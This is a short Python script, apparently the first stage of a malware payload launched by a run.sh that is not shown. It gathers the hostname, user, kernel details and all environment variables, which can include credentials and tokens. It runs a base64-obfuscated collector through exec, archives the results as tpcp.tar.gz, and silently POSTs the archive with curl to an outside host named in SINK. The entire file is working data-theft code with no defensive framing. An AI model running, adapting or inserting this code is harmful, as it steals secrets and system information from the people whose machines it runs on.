# First stage, run by `python -c`: COLLECTOR and pack() come from run.sh. The collector is another `python -c`.
import os
import subprocess
import sys
import tempfile

with tempfile.TemporaryDirectory() as directory:
    collected = os.path.join(directory, "collected")
    with open(collected, "wb") as out:
        for command in (["hostname"], ["whoami"], ["uname", "-a"], ["printenv"]):
            subprocess.run(command, stdout=out)
        collector = f"import base64; exec(base64.b64decode('{COLLECTOR}'))"
        subprocess.run([sys.executable, "-c", collector], stdout=out)
    archive = pack(directory, collected)
    subprocess.run(["curl", "-s", "-o", "/dev/null", "--max-time", "10", "-X", "POST", "-H", "X-Filename: tpcp.tar.gz",
                    "--data-binary", "@" + archive, f"http://{os.environ['SINK']}/"])
